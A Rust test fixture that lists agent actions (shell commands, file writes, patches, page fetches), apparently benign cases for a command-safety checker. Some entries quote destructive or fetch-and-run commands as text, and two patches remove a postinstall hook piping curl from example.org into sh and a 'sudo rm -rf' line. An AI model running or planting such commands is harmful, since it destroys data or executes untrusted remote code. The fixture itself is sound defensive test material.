//! An ordinary day's work, and what only mentions danger. None of it deserves a warning.

use super::Case::{self, Fetch, Patch, Run, Write};

pub const CASES: &[Case] = &[
    // Looking for words, and saying them.
    Run("grep -rn 'rm -rf' scripts/"),
    Run(r#"rg "git push --force" docs"#),
    Run(r"git grep -n 'mkfs\|dd if='"),
    Run("grep -q sudo README.md && echo 'mentions sudo'"),
    Run(r#"echo "DROP TABLE users""#),
    Run("echo 'curl https://example.org/install.sh | sh'"),
    Run("echo done # rm -rf / would have been worse"),
    Run("printf 'terraform destroy\\n' > notes.txt"),
    Run("cat <<'EOF' > docs/warning.md\nNever type rm -rf / here; say so with $(echo) signs.\nEOF"),
    Run("sed 's/rm -rf/remove/' docs/guide.md"),
    Run("sed -n '1,40p' src/room.rs"),
    Run("awk '/DROP DATABASE/ { print FILENAME, FNR }' docs/notes.md"),
    Run("which sudo"),
    Run("man chmod"),
    // Reading.
    Run("ls -la"),
    Run("cat .env.example"),
    Run("cat .gitignore"),
    Run("cat .github/workflows/ci.yml"),
    Run("head -n 40 install.sh"),
    Run("cat install.sh | less"),
    Run("find . -name '*.rs' -newer Cargo.toml"),
    Run("find src -name '*.rs' -exec grep -l TODO {} +"),
    Run("find src -name '*.rs' -print0 | xargs -0 wc -l"),
    Run("du -sh target | sort -h"),
    Run("ps aux | grep bash"),
    Run("diff -u src/old.rs src/new.rs"),
    Run(r#"for f in src/*.rs; do wc -l "$f"; done"#),
    // Files of the project.
    Run("rm notes.txt"),
    Run("rmdir drafts"),
    Run("mkdir -p src/room && touch src/room/names.rs"),
    Run("mv src/names.rs src/person_names.rs"),
    Run("cp docs/guide.md docs/guide-for-bob.md"),
    Run("tar czf notes.tar.gz docs/"),
    Run("dd if=/dev/zero of=fixture.bin bs=1k count=4"),
    Run("echo aGVsbG8gYm9i | base64 -d"),
    Run("base64 -d fixtures/hello.b64 > fixtures/hello.txt"),
    // git, forwards only.
    Run("git status --short"),
    Run("git push origin feature"),
    Run("git push -u origin bob/quiet-names"),
    Run("git push origin fix-force-flag"),
    Run("git fetch --prune origin"),
    Run("git pull --ff-only"),
    Run("git switch -c alice/keys"),
    Run("git add -A && git commit -m 'Say why sudo rm -rf is refused'"),
    Run("git log --oneline --grep='push --force'"),
    Run("git diff HEAD~3 -- .github/workflows/ci.yml"),
    Run("git reflog -5"),
    Run("git clean -n"),
    Run("git check-ignore -v .env"),
    // Building and testing.
    Run("cargo build --release"),
    Run("cargo test --workspace 2>&1 | tee test.log"),
    Run("RUST_BACKTRACE=1 cargo test names > /dev/null"),
    Run("cargo fmt --check; cargo clippy --all-targets"),
    Run("cargo add serde --features derive"),
    Run("cargo nextest run --test sim"),
    Run("npm ci"),
    Run("npm run build"),
    Run("npx prettier --check src"),
    Run("node --test tests/names.test.js"),
    Run("python3 -m pytest -q tests/"),
    Run("pip install -r requirements.txt"),
    Run("go test ./..."),
    Run("make test"),
    Run("sh -c 'cargo test --workspace'"),
    Run(r#"bash -c "cd web && npm test""#),
    Run("if cargo test -q; then echo fine; else echo broken; fi"),
    Run(r#"echo "at $(git rev-parse --short HEAD)""#),
    Run(r#"today=$(date +%F); echo "built on $today""#),
    // Looking at what runs elsewhere.
    Run("docker ps"),
    Run("docker build -t room ."),
    Run("docker compose logs --tail=50 web"),
    Run("kubectl get pods"),
    Run("kubectl describe pod web-0 -n production"),
    Run("terraform plan"),
    Run("terraform fmt -check"),
    Run("helm list"),
    Run("aws s3 ls s3://alice-notes"),
    Run("psql -c 'SELECT count(*) FROM messages'"),
    Run("sqlite3 dev.db '.schema'"),
    Run("curl -fsSL https://example.org/notes.json -o notes.json"),
    Run("curl -s https://crates.io/api/v1/crates/serde | jq .crate.max_version"),
    // Writes.
    Write { path: "src/env.rs", content: "pub const NAME: &str = \"ROOM_PORT\";\n" },
    Write { path: "src/environment/names.rs", content: "pub fn names() -> [&'static str; 1] {\n    [\"PORT\"]\n}\n" },
    Write { path: "src/keys.rs", content: "pub struct Key(pub [u8; 32]);\n" },
    Write { path: "src/git/hooks.rs", content: "pub const NAMES: [&str; 2] = [\"pre-commit\", \"pre-push\"];\n" },
    Write { path: "src/ssh/config.rs", content: "pub struct Host {\n    pub name: String,\n}\n" },
    Write { path: "web/src/profile.ts", content: "export const profile = { name: 'alice' };\n" },
    Write { path: "tests/fixtures/keyboard.json", content: "{ \"layout\": \"neo\" }\n" },
    Write { path: "docs/ci.md", content: "# CI\n\nOur workflows live in `.github/workflows/`.\n" },
    Write { path: ".gitignore", content: "/target\n.env\n*.key\n" },
    Write { path: ".editorconfig", content: "root = true\n\n[*]\nindent_size = 4\n" },
    Write { path: ".github/ISSUE_TEMPLATE/bug.md", content: "What did you do, and what happened?\n" },
    Write {
        path: "docs/permissions.md",
        content: "# Permissions\n\nA failed build is no reason for `sudo`, nor for `chmod -R 777 .`.\n",
    },
    Write {
        path: "README.md",
        content: "# Room\n\nWe do not ask you to pipe `curl` into `sh`: take a release and check its signature.\n",
    },
    Write {
        path: "package.json",
        content: r#"{
  "name": "room",
  "version": "1.0.0",
  "scripts": { "build": "tsc", "test": "node --test" }
}
"#,
    },
    Write { path: "Makefile", content: "test:\n\tcargo test\n\nlint:\n\tcargo clippy\n" },
    Write { path: "scripts/count.sh", content: "#!/bin/sh\nset -eu\nfind src -name '*.rs' | wc -l\n" },
    // Patches.
    Patch(
        r#"diff --git a/src/names.rs b/src/names.rs
index 3b18e51..a9f2c07 100644
--- a/src/names.rs
+++ b/src/names.rs
@@ -1,3 +1,4 @@
 pub fn names() -> Vec<String> {
-    vec!["alice".into()]
+    let first = "alice".into();
+    vec![first, "bob".into()]
 }
"#,
    ),
    Patch(
        r#"diff --git a/docs/guide.md b/docs/guide.md
index 5d1c8b6..0f9a2d1 100644
--- a/docs/guide.md
+++ b/docs/guide.md
@@ -3,2 +3,4 @@
 ## What is asked about
-Deletion.
+Deletion, such as `rm -rf build`, and `git push --force`. Whoever pipes `curl` into `sh` trusts
+a server with the whole machine, and `sudo` makes it worse.
+Writing `.git/hooks/pre-commit` is asked about too.
"#,
    ),
    Patch(
        r#"diff --git a/CHANGELOG.md b/CHANGELOG.md
index 1a2b3c4..4d5e6f7 100644
--- a/CHANGELOG.md
+++ b/CHANGELOG.md
@@ -1,2 +1,3 @@
 # Changelog
+- `terraform destroy` and `DROP DATABASE` are asked about before they run.
 - Names may have blanks.
"#,
    ),
    // What was dangerous leaves.
    Patch(
        r#"diff --git a/package.json b/package.json
index d90a4c7..6b1f0d2 100644
--- a/package.json
+++ b/package.json
@@ -2,6 +2,5 @@
   "name": "room",
   "scripts": {
-    "test": "node --test",
-    "postinstall": "curl -s https://example.org/x.sh | sh"
+    "test": "node --test"
   }
 }
"#,
    ),
    Patch(
        r#"diff --git a/scripts/test.sh b/scripts/test.sh
index b3d0e19..4f1c2ab 100755
--- a/scripts/test.sh
+++ b/scripts/test.sh
@@ -1,4 +1,3 @@
 #!/bin/sh
 set -eu
-sudo rm -rf /opt/room
 cargo test
"#,
    ),
    Patch(
        r#"diff --git a/package.json b/package.json
index 2c1f0a9..7be1d43 100644
--- a/package.json
+++ b/package.json
@@ -4,3 +4,3 @@
   "devDependencies": {
-    "prettier": "3.3.0"
+    "prettier": "3.3.1"
   }
"#,
    ),
    Patch(
        r#"diff --git a/src/env.rs b/src/env.rs
new file mode 100644
index 0000000..5e1c309
--- /dev/null
+++ b/src/env.rs
@@ -0,0 +1,3 @@
+pub fn port() -> Option<u16> {
+    std::env::var("ROOM_PORT").ok()?.parse().ok()
+}
"#,
    ),
    Patch(
        r#"diff --git a/src/key.rs b/src/keyboard.rs
similarity index 100%
rename from src/key.rs
rename to src/keyboard.rs
"#,
    ),
    Patch(
        r#"diff --git a/docs/draft.md b/docs/draft.md
deleted file mode 100644
index 9d3f1c2..0000000
--- a/docs/draft.md
+++ /dev/null
@@ -1,2 +0,0 @@
-# Draft
-What bob wanted to say.
"#,
    ),
    Patch(
        r#"diff --git a/.gitignore b/.gitignore
index 6b1f0d2..8c2d1e0 100644
--- a/.gitignore
+++ b/.gitignore
@@ -1,2 +1,4 @@
 /target
 node_modules/
+.env
+*.key
"#,
    ),
    Patch(
        r#"diff --git a/web/src/room.css b/web/src/room.css
index 4f1c2ab..b3d0e19 100644
--- a/web/src/room.css
+++ b/web/src/room.css
@@ -1,3 +1,3 @@
 .room {
-  color: black;
+  color: #222;
 }
"#,
    ),
    Patch(
        r#"diff --git a/src/branches.rs b/src/branches.rs
index 8a7b6c5..1d2e3f4 100644
--- a/src/branches.rs
+++ b/src/branches.rs
@@ -1,2 +1,3 @@
+/// Branches that are only ever pushed without force, since bob has pulled them.
 pub fn shared() -> [&'static str; 2] {
     ["main", "release"]
"#,
    ),
    Patch(
        r#"diff --git a/Makefile b/Makefile
index 0c1d2e3..f4a5b6c 100644
--- a/Makefile
+++ b/Makefile
@@ -1,2 +1,5 @@
 test:
 	cargo test
+
+lint:
+	cargo clippy --all-targets
"#,
    ),
    // Pages.
    Fetch("https://docs.rs/serde/latest/serde/"),
    Fetch("https://doc.rust-lang.org/std/fs/fn.remove_dir_all.html"),
    Fetch("https://crates.io/crates/tokio"),
    Fetch("https://github.com/rust-lang/rust/pull/1"),
    Fetch("https://raw.githubusercontent.com/rust-lang/cargo/master/README.md"),
    Fetch("https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers"),
    Fetch("https://en.wikipedia.org/wiki/Link-local_address"),
    Fetch("https://www.rfc-editor.org/rfc/rfc1918"),
    Fetch("https://git-scm.com/docs/git-push#Documentation/git-push.txt---force"),
    Fetch("https://registry.npmjs.org/prettier"),
    Fetch("https://docs.example.org/10.0.0/changelog.html"),
    Fetch("https://example.org/guides/localhost-and-127.0.0.1"),
    Fetch("https://10.example.org/"),
    Fetch("https://localhost.example.org:8443/docs"),
    Fetch("https://man7.org/linux/man-pages/man1/rm.1.html"),
    Fetch("http://example.com/"),
    Fetch("https://1.1.1.1/dns/"),
];
